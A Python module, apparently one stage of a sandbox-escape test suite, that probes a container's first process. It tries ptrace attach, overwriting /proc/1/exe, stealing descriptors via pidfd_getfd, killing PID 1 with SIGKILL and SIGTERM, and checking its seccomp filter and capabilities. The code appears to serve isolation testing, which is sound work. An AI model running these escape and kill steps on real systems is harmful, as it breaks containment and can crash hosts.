"""Goes for the box's first process: its memory, descriptors, program and signals, to leave the box through it."""

import os
import signal

from attack_stage import attempt, call, must

AT = "list"
ATTACH, SEIZE = 16, 0x4206


def field(name):
    with open("/proc/1/status") as file:
        return next(line.split(":")[1].strip() for line in file if line.startswith(f"{name}:"))


def overwrite(path):
    with open(path, "r+b", buffering=0) as file:
        return file.write(b"\x7f")


def stop():
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
        os.kill(1, number)
    return field("State")[0]


def outside(folder):
    """Whether a folder of the first process shows more than our own."""
    return sorted(os.listdir(folder)) != sorted(os.listdir("/"))


def attack():
    try:
        other_root = outside("/proc/1/root")
    except OSError:
        other_root = False
    descriptors = os.listdir("/proc/1/fd") if os.access("/proc/1/fd", os.R_OK) else []
    kinds = [os.readlink(f"/proc/1/fd/{one}").split(":")[0] for one in descriptors]
    return {
        "attach": attempt(call, "ptrace", ATTACH, 1, 0, 0),
        "seize": attempt(call, "ptrace", SEIZE, 1, 0, 0),
        "its program": attempt(overwrite, "/proc/1/exe"),
        "its root": must(other_root, "another root"),
        "its files": must(any(kind not in {"pipe", "socket", "anon_inode", "/dev/null"} for kind in kinds), kinds),
        "a descriptor of it": attempt(call, "pidfd_getfd", call("pidfd_open", 1, 0), 0, 0)
        if not attempt(call, "pidfd_open", 1, 0).startswith("refused")
        else "refused: no pidfd",
        "stop it": must(stop() in "TtZX", "stopped"),
        "its filter": must(field("Seccomp") == "0", "it has no filter"),
        "its rights": must(int(field("CapEff"), 16) != 0, field("CapEff")),
        "its namespaces": attempt(call, "setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0),
    }
